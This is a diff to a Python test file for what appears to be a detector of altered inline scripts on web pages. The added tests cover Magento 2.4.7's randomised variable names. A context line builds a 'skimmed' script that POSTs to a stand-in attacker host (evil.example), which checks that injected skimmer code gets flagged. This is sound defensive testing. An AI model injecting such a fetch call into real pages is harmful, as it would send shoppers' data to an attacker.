@@ -183,6 +183,14 @@ def test_inline_scripts_are_compared_without_their_per_request_values() -> None:
     skimmed = second + 'fetch("https://evil.example/c", {method: "POST"});'
     assert _shape(first) == _shape(second)
     assert _shape(skimmed) != _shape(second)
+    # Seen on real Magento 2.4.7: SecureHtmlRenderer's random names, sometimes without a digit.
+    style = "var elem%sArray = document.querySelectorAll('#checkout-loader img');"
+    assert _shape(style % "Hpmh5VM2") == _shape(style % "FVPhoPPg")
+    listener = "function eventListener%s () {}; var listenedElement%sArray = [];"
+    assert _shape(listener % ("aBcDeFgHiJ", "aBcDeFgHiJ")) == _shape(
+        listener % ("x1Y2z3W4v5", "x1Y2z3W4v5")
+    )
+    assert _shape(style % "FVPhoPPg") != _shape(style.replace("img", "div") % "FVPhoPPg")
     before = page(PageScript(None, None, "a" * 64, _shape(first)))
     after = page(PageScript(None, None, "c" * 64, _shape(second)))
     assert compare(before, after) == []
